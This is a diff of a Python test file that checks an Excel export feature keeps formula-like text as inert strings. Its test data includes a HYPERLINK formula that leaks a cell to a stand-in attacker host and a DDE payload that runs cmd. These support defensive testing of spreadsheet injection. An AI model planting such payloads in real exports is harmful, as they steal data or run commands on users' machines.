@@ -11,18 +11,19 @@ from datetime import UTC, datetime
 from pathlib import Path
 from typing import Any
 
-import httpx
+import httpx2
 import psycopg
 import pytest
 from fastapi.testclient import TestClient
 from openpyxl import load_workbook
-from openpyxl.cell.cell import Cell
+from openpyxl.cell.cell import Cell, MergedCell
 from openpyxl.worksheet._write_only import WriteOnlyWorksheet
 
 from api.app import create_app
 from layers.db.settings import Settings
 from layers.io import exports, xlsx
 from layers.supervision import score_sheet
+from layers.supervision.scores import Score
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A3,"点击查看整改要求")'
 # OWASP's formula starts, each at the head of a description.
@@ -39,7 +40,7 @@ def _describe(dsn: str, texts: list[str]) -> None:
                      [texts, len(texts)])
 
 
-def _column(content: bytes, field: str, header_row: int = 2) -> list[Cell]:
+def _column(content: bytes, field: str, header_row: int = 2) -> list[Cell | MergedCell]:
     sheet = load_workbook(io.BytesIO(content), data_only=False).active
     assert sheet is not None
     index = [c.value for c in sheet[header_row]].index(field) + 1
@@ -95,10 +96,12 @@ def test_order_workbook_keeps_formula_text_as_text(
 
 
 def test_score_workbook_keeps_names_as_text() -> None:
-    rows = [{"rank": 1, "code": "=cmd|' /C calc'!A0", "name": "@SUM(A1)" + CONTROL,
-             "kind": "territorial", "issues": 3, "rework_rate": 0.5}]
+    rows = [Score(rank=1, code="=cmd|' /C calc'!A0", name="@SUM(A1)" + CONTROL,
+                  kind="territorial", layer=None, issues=3, open=0, overdue_open=0,
+                  points_at_risk=0.0, points_lost=0.0, reworks=0, rework_rate=0.5,
+                  on_time_rate=None, avg_hours_to_rectify=None)]
     since, until = datetime(2026, 5, 1, tzinfo=UTC), datetime(2026, 6, 1, tzinfo=UTC)
-    content = score_sheet.workbook(rows, "unit", since, until)
+    content = score_sheet.workbook(rows, "unit", since, until, zone=UTC)
     code, name = _column(content, "code", 4)[0], _column(content, "name", 4)[0]
     assert (code.data_type, code.value) == ("s", "=cmd|' /C calc'!A0")
     assert (name.data_type, name.value) == ("s", "@SUM(A1)路灯不亮[0m")
@@ -159,7 +162,7 @@ def _app(dsn: str, tmp_path: Path, **settings: Any) -> TestClient:
 def test_an_export_hands_its_connection_back_before_formatting(
         demo_dsn: str, tmp_path: Path, bearer_for: Callable[..., dict[str, str]],
         monkeypatch: pytest.MonkeyPatch) -> None:
-    seen: list[httpx.Response] = []
+    seen: list[httpx2.Response] = []
     write_table = xlsx.write_table
 
     def spy(*args: Any, **kwargs: Any) -> int:
@@ -178,7 +181,7 @@ def test_an_export_hands_its_connection_back_before_formatting(
 def test_an_export_beyond_the_concurrency_limit_hears_503_at_once(
         demo_dsn: str, tmp_path: Path, bearer_for: Callable[..., dict[str, str]],
         monkeypatch: pytest.MonkeyPatch) -> None:
-    seen: list[httpx.Response] = []
+    seen: list[httpx2.Response] = []
     write_table = xlsx.write_table
 
     def spy(*args: Any, **kwargs: Any) -> int:
